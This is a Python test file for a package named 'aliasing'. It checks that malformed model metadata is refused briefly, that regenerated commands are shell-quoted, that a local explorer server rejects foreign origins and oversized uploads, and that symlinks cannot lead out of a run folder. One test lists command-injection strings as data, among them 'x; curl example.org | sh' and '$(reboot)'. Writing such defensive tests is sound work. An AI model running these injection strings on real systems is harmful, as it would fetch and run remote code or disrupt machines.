"""What comes from a stranger cannot occupy the machine, be believed, or speak in the package's name."""

import asyncio
import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import safetensors.torch

from aliasing.errors import InputError, UsageError
from aliasing.explorer.guard import Guard
from aliasing.report.commands import command_again
from aliasing.report.runs import Run
from aliasing.surgery.specification import METADATA_KEY, MOST_TAPS, parse, reapply
from tests.small_network import make


@pytest.mark.parametrize(
    "written",
    [
        *(json.dumps({"specification": text}) for text in ("binomial300", "binomial150000", f"kaiser{'9' * 500}")),
        json.dumps({"specification": "-".join(["1"] * 3000)}),
        json.dumps({"specification": "/".join(["binomial4"] * 9)}),
        *(json.dumps({"specification": value}) for value in (3, None, True, ["binomial4"], {"a": 1}, 1.5, "")),
        json.dumps({"specification": "x" * 10**6}),
        *("3", "[]", "null", "[" * 50_000, '"binomial4"', "{}", "", '{"specification": NaN}'),
    ],
)  # fmt: skip
def test_a_conversion_in_a_file_is_bounded_and_refused_in_one_short_line(written: str, tmp_path: Path) -> None:
    model, path = make(), tmp_path / "weights.safetensors"
    safetensors.torch.save_file(model.module.state_dict(), path, {METADATA_KEY: written})
    with pytest.raises((InputError, UsageError)) as error:
        reapply(model, path)
    assert str(error.value).isprintable()
    assert len(str(error.value)) < 700 + len(str(path))


def test_a_name_asks_for_as_many_taps_as_a_filter_may_have() -> None:
    assert parse(f"binomial{MOST_TAPS}")["taps"] == f"binomial{MOST_TAPS}"
    with pytest.raises(UsageError, match="a filter of 257 taps; a name or a file can ask for at most 256"):
        parse(f"binomial{MOST_TAPS + 1}")


SETTINGS = {"limit": 3, "seed": 1, "protocol": {"name": "crop", "span": 2}}


@pytest.mark.parametrize("hostile", ["x; curl example.org | sh", "x\nreboot", "$(reboot)", "`reboot`", "--out=/x", "'"])
def test_a_command_on_a_page_is_made_of_settings_and_quoted(hostile: str) -> None:
    summary = {
        "models": {hostile: {"weights": {"loaded_as": hostile}}},
        "settings": SETTINGS | {"device": hostile, "output": hostile, "sample": [hostile]},
        "command": f"aliasing jitter --models resnet50; {hostile}",
    }
    command = command_again(Run(Path("run"), "networks", summary))
    words = shlex.split(command)
    assert words[:2] == ["aliasing", "jitter"]
    assert "resnet50" not in command
    assert command.isprintable()
    allowed = [] if "\n" in hostile or hostile.startswith("-") else [hostile]
    options = [
        "--models",
        "--images",
        "IMAGES",
        "--protocol",
        "crop:span=2",
        "--limit",
        "3",
        "--seed",
        "1",
        "--out",
        "run",
    ]
    assert {*words[2:]} == {*options, "--device", "--output", "--sample", *(allowed or ["…"])}


def asked(headers: dict[bytes, bytes], kind: str = "http", body: list[bytes] | None = None) -> tuple[list[Any], int]:
    """What a guarded application of ten bytes is sent, and how many bytes it has read."""
    sent: list[Any] = []
    pieces, read = list(body or [b""]), 0

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": pieces.pop(0), "more_body": bool(pieces)}

    async def send(message: Any) -> None:
        sent.append(message)

    async def app(scope: Any, receive: Any, send: Any) -> None:
        nonlocal read
        more = True
        while more:
            message = await receive()
            read, more = read + len(message["body"]), message["more_body"]
        await send({"type": "http.response.start", "status": 200, "headers": []})

    guard = Guard(app, ["http://127.0.0.1:8080", "http://localhost:8080"], 10)
    asyncio.run(guard({"type": kind, "headers": list(headers.items())}, receive, send))
    return sent, read


def test_the_explorer_answers_its_own_pages_only() -> None:
    assert asked({})[0][0]["status"] == 200
    assert asked({b"origin": b"http://localhost:8080"})[0][0]["status"] == 200
    for origin in (b"http://example.org", b"null", b"http://127.0.0.1:8081", b"https://localhost:8080", b"\xff"):
        assert asked({b"Origin": origin})[0][0]["status"] == 403
        assert asked({b"origin": origin}, "websocket")[0] == [{"type": "websocket.close", "code": 1008}]


def test_an_upload_is_read_no_further_than_its_limit() -> None:
    assert asked({}, body=[b"12345", b"67890"])[1] == 10
    sent, read = asked({}, body=[b"12345"] * 100)
    assert (sent[0]["status"], read) == (413, 10)
    for length in (b"11", b"9" * 400):
        sent, read = asked({b"content-length": length}, body=[b"12345"])
        assert (sent[0]["status"], read) == (413, 0)


def test_a_folder_of_examples_that_leads_out_of_the_run_is_not_shown(tmp_path: Path) -> None:
    from aliasing.report.examples import example_sections, spectra_section
    from aliasing.report.runs import Names

    (tmp_path / "outside" / "spectra").mkdir(parents=True)
    for file in ("examples.json", "spectra/spectra.json"):
        (tmp_path / "outside" / file).write_text("{}")
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "examples").symlink_to(tmp_path / "outside")
    run = Run(tmp_path / "run", "networks", {"models": {}})
    with pytest.raises(InputError, match="leads out of"):
        example_sections(run, 1, Names({}, {}))
    assert not [*spectra_section([run])]


def test_a_complaint_is_short_whatever_it_is_about(complaint: Any) -> None:
    assert len(complaint(["sites", f"file:{'x' * 20_000}"], 2)) < 4200
